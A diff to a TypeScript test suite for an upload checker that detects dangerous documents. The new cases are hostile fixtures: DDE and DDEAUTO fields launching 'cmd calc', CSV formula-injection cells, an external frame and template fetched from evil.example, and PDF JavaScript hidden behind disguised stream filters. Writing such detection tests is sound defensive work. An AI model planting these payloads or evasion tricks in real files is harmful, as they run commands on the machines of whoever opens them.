@@ -3,7 +3,7 @@ import { createHash } from 'node:crypto'
 import { expect, test } from 'vitest'
 import { checkFile, MOST_FILE } from './check-file.ts'
 import { zip } from './sources/test-files.ts'
-import { jpeg, latin, office, openDocument, packedObjects, pdf, png } from './test-attachable.ts'
+import { jpeg, latin, MAIN, office, openDocument, packedObjects, pdf, png } from './test-attachable.ts'
 import { UnreadableFile } from './unreadable-file.ts'
 
 const kindOf = async (name: string, bytes: Uint8Array | Promise<Uint8Array>) =>
@@ -23,10 +23,13 @@ test.each([
   ['slides.pptx', office('pptx'), 'pptx'],
   ['with a sheet.docx', office('xlsx').then(sheet => office('docx', { 'word/embeddings/sheet1.xlsx': sheet })), 'docx'],
   ['with a link.docx', office('docx', { 'word/_rels/document.xml.rels': '<Relationships><Relationship Id="a" Type="http://x/hyperlink" Target="https://example.org" TargetMode="External"/></Relationships>' }), 'docx'],
+  ['with fields.docx', office('docx', { 'word/document.xml': '<w:p><w:instrText> PAGEREF _Toc1 </w:instrText><w:fldSimple w:instr=" NUMPAGES "/></w:p>' }), 'docx'],
+  ['with a chart.odt', openDocument('text', { 'content.xml': '<c><draw:object xlink:href="./Object 1"/></c>' }), 'odt'],
   ['minutes.odt', openDocument('text'), 'odt'],
   ['register.ods', openDocument('spreadsheet'), 'ods'],
   ['slides.odp', openDocument('presentation'), 'odp'],
   ['visits.csv', latin('Ward,Visits\r\nEast,-12\r\n"West, rural",3'), 'csv'],
+  ['list.csv', latin('Ward,Said\r\nEast,- visits | reviews\r\nWest,"-3|4"'), 'csv'],
   ['visits.tsv', utf16('Ward\tVisits\r\nÉast\t12'), 'csv'],
   ['notes.txt', new Uint8Array(Buffer.from('Visits are seen alone — 90%. x < y, and <3')), 'text'],
   ['chart.png', png(), 'png'],
@@ -40,6 +43,7 @@ test.each([
 const OLE = (name: string) => new Uint8Array(Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), Buffer.from(name, 'utf16le')])) // prettier-ignore
 const HTML = latin('<!DOCTYPE html><script>alert(1)</script>')
 const SVG = latin('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
+const typed = (kind: string, type: string) => ({ '[Content_Types].xml': `<Types><Override PartName="/${MAIN[kind]![0]}" ContentType="${MAIN[kind]![1]}"/><Override PartName="/a.xml" ContentType="${type}"/></Types>` }) // prettier-ignore
 const fetching = (type: string) => ({ 'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="a" Type="http://x/${type}" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>` }) // prettier-ignore
 
 test.each([
@@ -83,6 +87,19 @@ test.each([
   ['inside.docx', office('docm').then(inner => office('docx', { 'word/embeddings/a.docx': inner })), 'it holds an Office file with macros'],
   ['inside.docx', zip({ 'a.txt': 'a' }).then(inner => office('docx', { 'word/embeddings/a.bin': inner })), 'it holds a zip archive'],
   ['deep.docx', office('xlsx').then(three => office('docx', { 'word/embeddings/a.xlsx': three })).then(two => office('pptx', { 'ppt/embeddings/a.docx': two })).then(one => office('docx', { 'word/embeddings/a.pptx': one })), 'it holds archives within archives'],
+  ['typed.xlsx', office('xlsx', typed('xlsx', 'application/vnd.ms-excel.macrosheet+xml')), 'it holds macros'],
+  ['typed.docx', office('docx', typed('docx', 'application/vnd.ms-office.vbaProject')), 'it holds macros'],
+  ['field.docx', office('docx', { 'word/document.xml': '<w:p><w:instrText>DD</w:instrText><w:t>x</w:t><w:instrText>&#69;AUTO cmd "/k calc"</w:instrText></w:p>' }), 'a field or link that starts a program'],
+  ['field.docx', office('docx', { 'word/header1.xml': '<w:p><w:fldSimple w:instr=" DDE cmd x"/></w:p>' }), 'a field or link that starts a program'],
+  ['link.xlsx', office('xlsx', { 'xl/externalLinks/externalLink1.xml': '<x:externalLink><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>' }), 'a field or link that starts a program'],
+  ['link.ods', openDocument('spreadsheet', { 'content.xml': '<c><office:dde-source office:dde-application="cmd"/></c>' }), 'a field or link that starts a program'],
+  ['frame.odt', openDocument('text', { 'content.xml': '<c><draw:floating-frame xlink:href="http://evil.example/x.odt"/></c>' }), 'a part that is fetched from elsewhere'],
+  ['script.docx', office('docx', { 'word/embeddings/a.pdf': pdf('4 0 obj <</S/JavaScript/JS(x)>> endobj') }), 'it holds a script'],
+  ['rich.docx', office('docx', { 'word/afchunk.txt': latin('{\\rtf1 x}') }), 'an RTF document inside'],
+  ['other-name.ods', openDocument('spreadsheet', { 'content.xml': '<c><s:event-listener xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/></c>' }), 'it holds macros'],
+  ['wide.odt', openDocument('text', { 'content.xml': utf16('<c><script:event-listener/></c>') }), 'it holds macros'],
+  ['part.odt', openDocument('text', { 'Object 1/content.xml': '<c><script:event-listener/></c>' }), 'it holds macros'],
+  ['part.odt', openDocument('text', { 'Object 1/Basic/Standard/Module1.xml': '<x/>' }), 'it holds macros'],
   ['macros.odt', openDocument('text', { 'Basic/Standard/Module1.xml': '<x/>' }), 'it holds macros'],
   ['events.ods', openDocument('spreadsheet', { 'content.xml': '<c><script:event-listener/></c>' }), 'it holds macros'],
   ['locked.odt', openDocument('text', { 'META-INF/manifest.xml': '<manifest:encryption-data/>' }), 'it has a password'],
@@ -95,6 +112,10 @@ test.each([
   ['script.pdf', pdf(packedObjects('<</S/JavaScript/JS(x)>>', '/F#69lter/Flate#44ecode')), 'it holds a script'],
   ['script.pdf', pdf(packedObjects('<</S/JavaScript/JS(x)>>', '/Filter[/ASCII85Decode/FlateDecode]')), 'packed in a way that cannot be looked into'],
   ['script.pdf', pdf(packedObjects('<<>>', '/Filter/LZWDecode')), 'packed in a way that cannot be looked into'],
+  ['twice.pdf', pdf(packedObjects('<</S/JavaScript/JS(x)>>', '/Filter[/FlateDecode/FlateDecode]')), 'packed in a way that cannot be looked into'],
+  ['comment.pdf', pdf(`%stream\n${packedObjects('<</S/JavaScript/JS(x)>>')}`), 'packed in a way that cannot be looked into'],
+  ['string.pdf', pdf(`4 0 obj\n(stream\n)\nendobj\n${packedObjects('<</S/JavaScript/JS(x)>>')}`), 'packed in a way that cannot be looked into'],
+  ['begins.pdf', pdf(packedObjects('<</S/JavaScript/JS(x)>>').replace('stream\n', 'stream%\n')), 'packed in a way that cannot be looked into'],
   ['broken.pdf', pdf('9 0 obj <</N 1/First 4/Filter/FlateDecode>>\nstream\nnot packed\nendstream'), 'packed in a way that cannot be looked into'],
   ['start.pdf', pdf('', '/OpenAction<</S/Launch/F(cmd.exe)>>'), 'a command that starts a program'],
   ['form.pdf', pdf('', '/AcroForm<</XFA 5 0 R>>'), 'a form with a script of its own'],
@@ -107,6 +128,9 @@ test.each([
   ['both.pdf', zip({ 'a.txt': 'a' }).then(archive => new Uint8Array(Buffer.concat([pdf(), archive, Buffer.from('%%EOF')]))), 'it holds an archive after its end'],
   ['run.csv', latin("Ward\r\n=cmd|'/c calc'!A1"), 'a cell that starts a program'],
   ['run.csv', latin('Ward,"=MSEXCEL|\'..\\x\'!A"'), 'a cell that starts a program'],
+  ['sum.csv', latin("Ward\r\n@SUM(1+9)*cmd|' /C calc'!A0"), 'a cell that starts a program'],
+  ['one.csv', latin("Ward\r\n=1+cmd|' /C calc,x'!A0"), 'a cell that starts a program'],
+  ['two.csv', latin('Ward\r\n-2+3+cmd|/C!E1'), 'a cell that starts a program'],
   ['huge.png', png([], 2_000_000_000), 'points, so that it was not kept: save it smaller'],
   ['cut.png', png().subarray(0, 40), 'it is damaged'],
   ['cut.jpg', jpeg().subarray(0, 100), 'it is damaged'],
